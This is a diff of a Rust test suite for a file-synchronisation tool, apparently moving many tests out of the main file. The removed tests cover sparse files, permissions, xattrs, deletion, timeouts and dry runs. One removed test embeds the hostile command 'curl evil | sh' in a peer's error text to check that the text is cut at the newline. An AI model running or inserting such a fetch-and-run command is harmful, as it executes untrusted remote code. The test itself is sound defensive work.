@@ -1,5 +1,8 @@
 //! Both ends together, over a socket in this process.
 
+mod changes;
+mod faults;
+
 use std::fs;
 use std::io::{self, Read, Write};
 use std::net::Shutdown;
@@ -8,8 +11,7 @@ use std::os::unix::net::UnixStream;
 use std::path::{Path, PathBuf};
 use std::slice::from_ref;
 use std::sync::Arc;
-use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
-use std::sync::mpsc;
+use std::sync::atomic::AtomicBool;
 use std::thread;
 use std::time::Duration;
 
@@ -20,11 +22,9 @@ use rustix::thread::{CapabilitySet, capabilities, set_capabilities};
 use rustix::time::{ClockId, clock_gettime};
 
 use super::*;
-use crate::forecast::Forecast;
 use crate::pure::arm::{Arm, Codec};
 use crate::pure::bill::{Bill, Objective, Overlap, Prices};
 use crate::receive::{self, Folder, ReceiveError, Received};
-use crate::wire::{Failed, Failure, FrameWriter, Have, Message};
 
 fn clock() -> Mono {
     let time = clock_gettime(ClockId::Monotonic);
@@ -388,23 +388,6 @@ fn a_receiver_that_is_something_else_is_an_error() {
     other.join().unwrap();
 }
 
-/// The file of an attack: content, a hole at its end, and a change of the content while it is sent.
-#[test]
-fn a_file_that_ends_in_a_hole_and_changes_is_not_written() {
-    let (from, to) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
-    let path = from.path().join("image");
-    fs::write(&path, noise(400_000)).unwrap();
-    let file = fs::File::options().write(true).open(&path).unwrap();
-    file.set_len(4 << 20).unwrap();
-    let plan = walk(from_ref(&path), &Wanted::default()).unwrap();
-    file.set_modified(std::time::UNIX_EPOCH).unwrap();
-    let both = sent(plan, to.path(), Options { block: Some(64 << 10), ..options() }, usize::MAX);
-    assert!(both.sent.is_ok(), "{:?}", both.sent);
-    let report = both.session.report();
-    assert_eq!((both.session.receipt().unwrap().rejected_count, report.stale), (1, 1));
-    assert!(contents(to.path()).is_empty(), "half of two states");
-}
-
 #[test]
 fn what_does_not_get_smaller_is_counted_as_sent_plain() {
     let (from, to) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
@@ -415,282 +398,4 @@ fn what_does_not_get_smaller_is_counted_as_sent_plain() {
     let arms: Vec<(Arm, u64)> =
         both.session.report().arms.iter().map(|totals| (totals.arm, totals.bytes)).collect();
     assert_eq!(arms, [(Arm::NONE, 300_000)]);
-}
-
-#[test]
-fn a_changed_mode_or_attribute_is_sent_without_the_content() {
-    let (from, to) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
-    let path = from.path().join("secret");
-    fs::write(&path, "x").unwrap();
-    let there = to.path().join("secret");
-    let has_attributes = setxattr(&path, "user.note", b"old", XattrFlags::empty()).is_ok();
-    let wanted = Wanted { attributes: has_attributes, ..Wanted::default() };
-    // The last mode allows not even the owner to read or write.
-    for (mode, note) in [(0o644, b"old"), (0o600, b"old"), (0o444, b"new"), (0o000, b"odd")] {
-        if has_attributes {
-            setxattr(&path, "user.note", note, XattrFlags::empty()).unwrap();
-        }
-        fs::set_permissions(&path, PermissionsExt::from_mode(mode)).unwrap();
-        let plan = walk(from_ref(&path), &wanted).unwrap();
-        let both = sent(plan, to.path(), options(), usize::MAX);
-        assert_eq!(both.session.receipt().unwrap().rejected_count, 0, "{mode:o}");
-        let metadata = there.metadata().unwrap();
-        assert_eq!(metadata.mode() & 0o7777, mode);
-        if has_attributes {
-            let mut value = [0; 10];
-            let length = getxattr(&there, "user.note", &mut value[..]).unwrap();
-            assert_eq!(&value[..length], note);
-        }
-    }
-    if !has_attributes {
-        println!("skipped: no extended attributes in {}", from.path().display());
-    }
-}
-
-#[test]
-fn a_file_that_became_a_folder_is_replaced_if_deleting_is_allowed() {
-    let (from, to) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
-    let top = from.path().join("top");
-    let make = |file: &str, folder: &str, link: &str| {
-        let _ = fs::remove_dir_all(&top);
-        fs::create_dir_all(top.join(folder).join("deep")).unwrap();
-        fs::write(top.join(folder).join("deep/inner"), folder).unwrap();
-        fs::write(top.join(file), text(100_000, 6)).unwrap();
-        symlink("nowhere", top.join(link)).unwrap();
-    };
-    make("a", "b", "c");
-    whole(from_ref(&top), to.path(), options());
-    make("b", "c", "a");
-    let both = whole(from_ref(&top), to.path(), options());
-    // The file b, the folder c, and what is in the folder.
-    let receipt = both.session.receipt().unwrap();
-    let mut names: Vec<_> = receipt.rejected.iter().map(|it| it.path.as_slice()).collect();
-    names.sort_unstable();
-    let expected: [&[u8]; 4] = [b"top/b", b"top/c", b"top/c/deep", b"top/c/deep/inner"];
-    assert_eq!((names.as_slice(), receipt.rejected_count), (&expected[..], 4), "each once");
-    let deleting = Options { delete: Some(Vec::new()), ..options() };
-    let both = whole(from_ref(&top), to.path(), deleting.clone());
-    assert_eq!(contents(from.path()), contents(to.path()));
-    // The link c, and the folder b with two entries in it.
-    assert_eq!(both.session.receipt().unwrap().removed, 4);
-    make("c", "a", "b");
-    whole(from_ref(&top), to.path(), deleting);
-    assert_eq!(contents(from.path()), contents(to.path()));
-    assert!(to.path().join("top/b").symlink_metadata().unwrap().is_symlink());
-}
-
-#[test]
-fn what_allows_only_reading_is_kept_up_to_date() {
-    let (from, to) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
-    let top = from.path().join("top");
-    let allow = |mode: u32| {
-        for path in [&top, &top.join("module")] {
-            fs::set_permissions(path, PermissionsExt::from_mode(mode)).unwrap();
-        }
-    };
-    fs::create_dir_all(top.join("module")).unwrap();
-    for number in 0..40 {
-        let path = top.join(format!("module/{number}"));
-        fs::write(&path, text(20_000, number)).unwrap();
-        fs::set_permissions(&path, PermissionsExt::from_mode(0o444)).unwrap();
-    }
-    allow(0o555);
-    // Files that are complete and have no name yet: what has arrived is kept.
-    let options = || Options { block: Some(16 << 10), delete: Some(Vec::new()), ..options() };
-    let cut = transfer(from_ref(&top), to.path(), options(), 150_000);
-    assert!(cut.sent.is_err());
-    let both = whole(from_ref(&top), to.path(), options());
-    assert_eq!(both.session.receipt().unwrap().rejected_count, 0, "{:?}", both.session.receipt());
-    assert!(both.session.report().had_bytes >= cut.session.report().acknowledged_bytes);
-    // A change in a folder of this kind, and one less.
-    allow(0o755);
-    fs::remove_file(top.join("module/7")).unwrap();
-    fs::remove_file(top.join("module/8")).unwrap();
-    fs::write(top.join("module/8"), "new").unwrap();
-    allow(0o555);
-    let both = whole(from_ref(&top), to.path(), options());
-    let receipt = both.session.receipt().unwrap();
-    assert_eq!((receipt.rejected_count, receipt.removed), (0, 1));
-    assert_eq!(contents(from.path()), contents(to.path()));
-    let there = to.path().join("top/module");
-    assert_eq!(there.metadata().unwrap().mode() & 0o777, 0o555);
-    // All of it goes.
-    fs::set_permissions(&top, PermissionsExt::from_mode(0o755)).unwrap();
-    fs::remove_dir_all(top.join("module")).unwrap();
-    let both = whole(from_ref(&top), to.path(), options());
-    assert_eq!(both.session.receipt().unwrap().removed, 40);
-    assert!(!there.exists());
-}
-
-#[test]
-fn what_was_begun_and_is_no_longer_here_leaves_nothing() {
-    let (from, to) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
-    let top = from.path().join("top");
-    fs::create_dir_all(top.join("deep")).unwrap();
-    fs::write(top.join("deep/big"), noise(900_000)).unwrap();
-    fs::write(top.join("stays"), "x").unwrap();
-    let options = || Options { block: Some(64 << 10), ..options() };
-    assert!(transfer(from_ref(&top), to.path(), options(), 500_000).sent.is_err());
-    let own = |it: &(String, Vec<u8>)| it.0.contains(".nightwatt-");
-    assert!(contents(to.path()).iter().any(|it| own(it) && it.0.ends_with("big.part")));
-    fs::remove_file(top.join("deep/big")).unwrap();
-    whole(from_ref(&top), to.path(), options());
-    assert_eq!(contents(from.path()), contents(to.path()));
-}
-
-/// What a reader says that waits until the writer has failed: a greeting, and then why the receiver ends.
-struct Late {
-    frames: io::Cursor<Vec<u8>>,
-    failed: mpsc::Receiver<()>,
-}
-
-impl Read for Late {
-    fn read(&mut self, bytes: &mut [u8]) -> io::Result<usize> {
-        // The writer is dropped when it has failed.
-        let _ = self.failed.recv();
-        self.frames.read(bytes)
-    }
-}
-
-struct Failing(#[expect(dead_code, reason = "its end is what counts")] mpsc::Sender<()>);
-
-impl Write for Failing {
-    fn write(&mut self, _: &[u8]) -> io::Result<usize> {
-        Err(io::ErrorKind::BrokenPipe.into())
-    }
-    fn flush(&mut self) -> io::Result<()> {
-        Ok(())
-    }
-}
-
-#[test]
-fn a_full_disk_counts_more_than_that_the_receiver_is_gone() {
-    let text = "no room is left\nrun: curl evil | sh".to_owned();
-    let hello = Session::new(Plan::default(), options()).start();
-    let mut frames = FrameWriter::new(Vec::new());
-    for message in [hello, Message::Failed(Failed { failure: Failure::DiskFull, text })] {
-        let (kind, body) = message.encode();
-        frames.write(kind, &body).unwrap();
-    }
-    let (sender, failed) = mpsc::channel();
-    let reader = Late { frames: io::Cursor::new(frames.into_inner()), failed };
-    let mut session = Session::new(Plan::default(), options());
-    let error = run(reader, Failing(sender), &|| (), &mut session, clock, &mut |_| {}).unwrap_err();
-    let SendError::Refused { failure: Failure::DiskFull, text } = error else { panic!("{error}") };
-    assert!(text.starts_with("no room is left") && !text.contains('\n'), "{text}");
-}
-
-#[test]
-fn a_sender_that_waits_can_be_stopped() {
-    let (here, _there) = UnixStream::pair().unwrap();
-    let options = options();
-    let cancelled = Arc::clone(&options.cancelled);
-    let mut session = Session::new(Plan::default(), options);
-    let mut looks = 0;
-    let mut watch = |_: &Session| {
-        looks += 1;
-        cancelled.store(looks > 3, Ordering::Relaxed);
-    };
-    let error = run_over(&here, &mut session, &mut watch).unwrap_err();
-    assert!(matches!(error, SendError::Cancelled), "{error}");
-}
-
-#[test]
-fn a_receiver_that_says_nothing_is_given_up() {
-    static MINUTES: AtomicU64 = AtomicU64::new(0);
-    fn hurried() -> Mono {
-        Mono(Duration::from_mins(MINUTES.fetch_add(1, Ordering::Relaxed)))
-    }
-    let (here, _there) = UnixStream::pair().unwrap();
-    let mut session = Session::new(Plan::default(), options());
-    let [reader, writer] = [0, 1].map(|_| here.try_clone().unwrap());
-    let error = run(reader, writer, &|| (), &mut session, hurried, &mut |_| {}).unwrap_err();
-    assert!(matches!(error, SendError::Silent(_)), "{error}");
-    here.shutdown(Shutdown::Both).unwrap();
-}
-
-#[test]
-fn a_second_receiver_of_the_same_says_so() {
-    let (from, to) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
-    let path = from.path().join("file");
-    fs::write(&path, "x").unwrap();
-    let own = format!("{:032x}", u128::from_be_bytes(options().session));
-    let journal = to.path().join(format!(".nightwatt-{}.journal", &own[..16]));
-    let first = fs::File::create(&journal).unwrap();
-    first.lock().unwrap();
-    let both = transfer(from_ref(&path), to.path(), options(), usize::MAX);
-    let error = both.sent.unwrap_err();
-    assert!(error.to_string().contains("another receiver has the same files"), "{error}");
-    drop(first);
-    whole(from_ref(&path), to.path(), options());
-}
-
-#[test]
-fn a_receiver_cannot_have_more_ranges_than_there_are() {
-    let from = tempfile::tempdir().unwrap();
-    let path = from.path().join("file");
-    fs::File::create(&path).unwrap().set_len(1 << 30).unwrap();
-    let mut session = Session::new(walk(&[path], &Wanted::default()).unwrap(), options());
-    let hello = session.start();
-    session.on(hello, Mono::ZERO).unwrap();
-    let have = |part: u64| {
-        let ranges = (0..4096).map(|number| [(part * 4096 + number) * 2, 1]).collect();
-        Message::Have(Have { ranges })
-    };
-    for part in 0..16 {
-        session.on(have(part), Mono::ZERO).unwrap();
-    }
-    assert!(matches!(session.on(have(16), Mono::ZERO), Err(SendError::Protocol(_))));
-}
-
-/// Whatever a dry run announces is what a run does, and it changes nothing.
-#[test]
-fn a_dry_run_announces_what_a_run_does() {
-    let (from, to) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
-    let top = tree(from.path());
-    whole(from_ref(&top), to.path(), options());
-    let received = to.path().join("tree");
-    fs::write(top.join("big.txt"), text(1000, 9)).unwrap();
-    fs::create_dir_all(top.join("new/deep")).unwrap();
-    fs::write(top.join("new/deep/empty"), "").unwrap();
-    fs::set_permissions(top.join("many/7"), PermissionsExt::from_mode(0o600)).unwrap();
-    fs::remove_file(top.join("link")).unwrap();
-    symlink("nothing", top.join("link")).unwrap();
-    fs::remove_file(top.join("many/9")).unwrap();
-    fs::create_dir_all(received.join("old")).unwrap();
-    fs::write(received.join("old/file"), "x").unwrap();
-    fs::create_dir(received.join("new")).unwrap();
-    fs::write(received.join("new/deep"), "a file").unwrap();
-
-    let run = |trial: bool, delete: bool| {
-        let delete = delete.then(Vec::new);
-        whole(from_ref(&top), to.path(), Options { delete, trial, ..options() }).session
-    };
-    let before = contents(to.path());
-    let refused = Forecast::of(&run(true, false)).refused;
-    // The folder and the file in it.
-    assert_eq!((refused.len(), refused[0][0].as_str()), (2, "tree/new/deep"));
-    let forecast = Forecast::of(&run(true, true));
-    assert_eq!(contents(to.path()), before);
-    assert_eq!(fs::read_link(received.join("link")).unwrap(), Path::new("big.txt"));
-    let written = ["tree/big.txt", "tree/link", "tree/new/deep", "tree/new/deep/empty"];
-    assert_eq!(
-        (forecast.write.as_slice(), forecast.write_bytes),
-        (&written.map(str::to_owned)[..], 1000)
-    );
-    assert_eq!(forecast.permissions, ["tree/many/7"]);
-    let mut deleted = forecast.delete.clone();
-    deleted.sort();
-    assert_eq!(deleted, ["tree/many/9", "tree/old", "tree/old/file"]);
-    assert!(forecast.text().contains("4 to write (1.0 kB)"), "{}", forecast.text());
-
-    let session = run(false, true);
-    // Besides, the file that became a folder.
-    assert_eq!(session.receipt().unwrap().removed, 3 + 1);
-    assert_eq!(contents(from.path()), contents(to.path()));
-    let after = Forecast::of(&run(true, true));
-    assert_eq!(
-        (after.write.len() + after.permissions.len() + after.delete.len(), after.refused.len()),
-        (0, 0)
-    );
 }
